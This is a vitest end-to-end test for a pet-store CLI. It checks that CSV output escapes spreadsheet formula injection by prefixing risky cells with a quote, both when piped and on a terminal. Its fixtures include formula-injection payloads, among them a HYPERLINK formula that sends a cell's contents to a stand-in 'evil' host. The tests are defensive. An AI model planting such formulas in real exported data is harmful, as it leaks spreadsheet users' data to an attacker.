import { describe, expect, it } from 'vitest';
import { setupE2e } from '../helpers/cli';
import { json } from '../helpers/scripted-server';
import { openTerminal } from '../helpers/tmux';

/**
 * -o csv is opened in spreadsheets: a text cell starting with =, +, -, @, a tab or a CR gets a leading '
 * (OWASP), piped or on a terminal; numbers stay numbers, and -o json keeps the values exact.
 */

const PETS = [
  { id: -2, name: '=HYPERLINK("http://evil/?x="&A1,"click")', categoryId: 3, status: 'available' },
  { id: 3, name: '-2+3', categoryId: -1 },
  { id: 4, name: '@SUM(1+1)', categoryId: 1 },
  { id: 5, name: '+1', categoryId: 1 },
  { id: 6, name: '\t=1+1', categoryId: 1 },
  { id: 7, name: '\r=1+1', categoryId: 1 },
  { id: 8, name: 'Rex', categoryId: 1 },
];

const LISTED =
  'id,name,categoryId,status\n' +
  `-2,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",3,available\n` +
  "3,'-2+3,-1,\n" +
  "4,'@SUM(1+1),1,\n" +
  "5,'+1,1,\n" +
  "6,'\t=1+1,1,\n" +
  `7,"'\r=1+1",1,\n` +
  '8,Rex,1,\n';

describe.concurrent('-o csv: cells stay text', () => {
  it('pets list, piped: formula-like names get a leading quote, negative numbers stay numbers; -o json carries the exact values', async (t) => {
    const { petctl } = await setupE2e(t, json(200, PETS));
    const result = await petctl(['-o', 'csv', 'pets', 'list']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toBe(LISTED);
    const exact = await petctl(['-o', 'json', 'pets', 'list']);
    expect(exact.code, exact.stderr).toBe(0);
    expect(JSON.parse(exact.stdout)).toEqual(PETS);
  });

  it('on a terminal too (tmux): the quote is there, before the visible escape of a CR', async (t) => {
    const { server, key, configDir } = await setupE2e(t, json(200, PETS));
    const tty = openTerminal(t, ['--base-url', server.baseUrl, '-o', 'csv', 'pets', 'list'], { PETCTL_CONFIG_DIR: configDir, PETCTL_API_KEY: key }, { stdoutToTerminal: true, width: 120 });
    expect(await tty.exitCode()).toBe(0);
    const screen = await tty.waitFor(/^8,Rex,1,$/m);
    expect(screen).toContain(`-2,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",3,available`);
    expect(screen).toContain("3,'-2+3,-1,");
    expect(screen).toContain("4,'@SUM(1+1),1,");
    expect(screen).toContain("7,'\\r=1+1,1,");
  });
});
